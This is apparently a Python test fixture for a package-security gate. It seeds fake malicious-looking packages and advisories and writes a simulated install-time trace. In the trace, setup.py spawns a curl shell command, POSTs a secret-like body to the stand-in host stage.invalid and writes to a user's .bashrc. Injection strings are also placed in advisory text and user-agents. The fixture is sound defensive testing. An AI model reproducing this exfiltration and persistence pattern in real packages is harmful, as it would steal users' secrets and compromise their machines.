"""An index with something on every page: what ``offering`` has, examined by a real gate.

Who got it, what it did in a sandbox, what is publicly known of it: each with attempts in it.
"""

import datetime as dt
from collections.abc import Mapping

import httpx
import msgspec

from airlock.assembly.storing import open_data
from airlock.behaviour import Phase, Trace
from airlock.behaviour.events import (
    Asked,
    Began,
    Ended,
    Looked,
    Ran,
    Reached,
    Said,
    Spawned,
    Touch,
    Touched,
)
from airlock.behaviour.log import write
from airlock.model import ArtifactName, Sha256
from airlock.store.traces import KeptTrace
from tests.browser.attempts import HIDDEN, LINE, PRINTABLE, TERMINAL
from tests.browser.offering import LOOKALIKE, SPRINKLED, artifacts, lookalike
from tests.checks.watched import HEADER
from tests.simulators.advisories import between, exported, fresh, osv
from tests.simulators.clocked_gate import ClockedGate
from tests.simulators.upstream import Upstream

CRITICAL = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"
_YANKED = "xss_everywhere-1.2-py3-none-any.whl"
_AGENTS = ("pip/25.3", "uv/0.9", f"pip/{PRINTABLE.encode('ascii', 'ignore').decode()}")


def advisories() -> bytes:
    """Return an export of what is publicly known of the seeded releases."""
    now = fresh()
    return exported(
        [
            osv("MAL-2026-7", "lanterns", versions=["2.0"], modified=now),
            osv("GHSA-harb-0001", "harbour-charts", between("0", "1.1"), vector=CRITICAL,
                summary="Charts of a crafted harbour are read out of bounds", modified=now),
            osv("PYSEC-2026-1", SPRINKLED, versions=["1.2"], vector=CRITICAL,
                summary=LINE, details=LINE, modified=now),
        ]
    )  # fmt: skip


def seed(gate: ClockedGate, upstream: Upstream) -> dict[str, str]:
    """Offer everything, ask the gate for all of it; return the digests by file name."""
    now = gate.now
    digests = {}
    for (filename, data), days in artifacts():
        digests[filename] = upstream.add(
            filename,
            data,
            project=_project(filename),
            upload_time=now - dt.timedelta(days=days),
            yanked=LINE if filename == _YANKED else None,
        )
    upstream.add(*lookalike(), project=LOOKALIKE, upload_time=now - dt.timedelta(days=3))
    upstream.status(SPRINKLED, "deprecated", LINE)
    _ask(gate, digests)
    _watch(gate, "tidewater_utils-0.9.1.tar.gz", digests, "run")
    _watch(gate, "xss_everywhere-1.0-py3-none-any.whl", digests, LINE)
    return digests


def _ask(gate: ClockedGate, digests: Mapping[str, str]) -> None:
    projects = {_project(filename) for filename in digests}
    with httpx.Client(base_url=gate.url, timeout=120) as client:
        for project in (*sorted(projects), LOOKALIKE):
            client.get(f"/simple/{project}/", headers={"user-agent": _AGENTS[0]})
        for filename, digest in digests.items():
            for agent in _AGENTS:
                client.get(f"/files/{digest}/{filename}", headers={"user-agent": agent})


def _watch(gate: ClockedGate, filename: str, digests: Mapping[str, str], word: str) -> None:
    """Keep the log of a detonation, as a gate that runs what it holds does."""
    digest = digests[filename]
    header = msgspec.structs.replace(HEADER, filename=filename, sha256=digest)
    install, run = Phase.INSTALL, Phase.IMPORT
    told = (
        Ran(at=0.1, phase=install, pid=10, path="/bin/pip", argv=("pip", "install", ".")),
        Spawned(at=0.2, phase=install, pid=10, child=11),
        Ran(at=0.3, phase=install, pid=11, path="/bin/python", argv=("python", "setup.py", word)),
        Spawned(at=0.5, phase=install, pid=11, child=12),
        Ran(at=0.6, phase=install, pid=12, path="/bin/sh", argv=("sh", "-c", f"curl {word}")),
        Looked(at=0.7, phase=install, name=f"stage.invalid{word}", answer="10.0.0.1"),
        Reached(at=0.8, phase=install, address="10.0.0.1", port=443, name="stage.invalid"),
        Asked(
            at=0.9, phase=install, method="POST", url=f"https://stage.invalid/{word}",
            headers=(("User-Agent", word),), body=b"PRIVATEPRIVATE4711 " + word.encode(),
        ),
        Touched(at=1.1, phase=install, path=f"/home/clara42/.bashrc{word}", how=Touch.WRITE),
        Ended(at=1.4, phase=install, seconds=1.4),
        Began(at=1.5, phase=run, what=f"tidewater_utils{word}"),
        Said(at=1.6, phase=run, text=f"hello {word}\n{TERMINAL}\n{HIDDEN}"),
        Ended(at=2.0, phase=run, seconds=0.5),
    )  # fmt: skip
    log = b"".join(write(Trace(header=header, events=told)))
    path = gate.data.parent / "a.log"
    path.write_bytes(log)
    records, blobs, _ = open_data(gate.data)
    with records, blobs:
        blobs.put(Sha256.of(log), path)
        name = ArtifactName.parse(filename)
        records.traces.put(
            KeptTrace(
                sha256=Sha256(digest),
                name=name,
                project=name.project,
                log=Sha256.of(log),
                seen_at=header.began,
            )
        )


def _project(filename: str) -> str:
    return filename.removesuffix(".tar.gz").rsplit("-", 1)[0].split("-")[0].replace("_", "-")
